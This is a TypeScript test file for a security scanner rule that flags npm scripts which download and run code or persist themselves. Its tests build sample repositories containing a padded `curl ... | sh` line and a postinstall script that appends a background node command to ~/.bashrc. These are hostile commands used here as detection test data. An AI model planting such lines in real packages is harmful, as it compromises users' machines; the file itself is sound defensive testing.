import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('follows a sourced script from the package script that runs it', async () => {
  const report = await scanFixture(fixture('match/sourced-lib-decodes'));
  const surface = report.executionMap.find(s => s.kind === 'npm-script' && s.name === 'dev');
  assert.equal(surface?.entry, 'scripts/dev.sh');
  assert.deepEqual(surface.reaches, ['scripts/lib/env.sh', 'server.js']);
  const [f] = findingsOf(report, 'code/shell-script');
  assert.equal(f?.location.file, 'scripts/lib/env.sh');
  assert.match(
    f.message,
    /runs code it downloads \(line 3\); it runs when you run `npm run dev`: scripts\/dev\.sh → scripts\/lib\/env\.sh/,
  );
  assert.equal(f.severity, 'critical');
  assert.deepEqual(f.triggers, ['dev']);
});

it('a postinstall that runs a downloading script blocks', async () => {
  const report = await scanFixture(fixture('match/npm-postinstall-curl'));
  assert.equal(report.verdict, 'block');
  assert.deepEqual(
    findingsOf(report, 'autorun/npm-lifecycle-script').map(f => f.severity),
    ['critical'],
  );
});

it('an official installer is context, and the repository passes', async () => {
  const report = await scanFixture(fixture('benign/official-installer'));
  assert.equal(report.verdict, 'pass');
  assert.match(findingsOf(report, 'code/shell-script')[0]?.message ?? '', /official installer/);
});

it('a script longer than the line budget is a truncated gap, and a finding of scan/incomplete-analysis', async () => {
  const body = `#!/bin/sh\n${'echo step\n'.repeat(60_000)}curl -s https://late.example.invalid/x | sh\n`;
  const dir = tempRepo({ 'package.json': '{"scripts":{"build":"sh scripts/build.sh"}}', 'scripts/build.sh': body });
  try {
    const report = await scanFixture(dir);
    assert.ok(report.errors.some(e => e.file === 'scripts/build.sh' && e.kind === 'truncated'));
    assert.equal(findingsOf(report, 'scan/incomplete-analysis')[0]?.severity, 'high');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('a start-up file write assembled from two lines is placed at its line however far padding pushes it', async () => {
  const body = `#!/bin/bash\nRC="$HOME/.bashrc"\n${'echo "step"\n'.repeat(400)}echo "node ~/.cache/agent.js &" >> "$RC"\n`;
  const dir = tempRepo({ 'package.json': '{"scripts":{"postinstall":"bash scripts/setup.sh"}}', 'scripts/setup.sh': body });
  try {
    const [f, ...rest] = findingsOf(await scanFixture(dir), 'code/shell-script');
    assert.equal(rest.length, 0);
    assert.equal(f?.severity, 'critical');
    assert.equal(f.location.file, 'scripts/setup.sh');
    assert.equal(f.location.line, 403);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
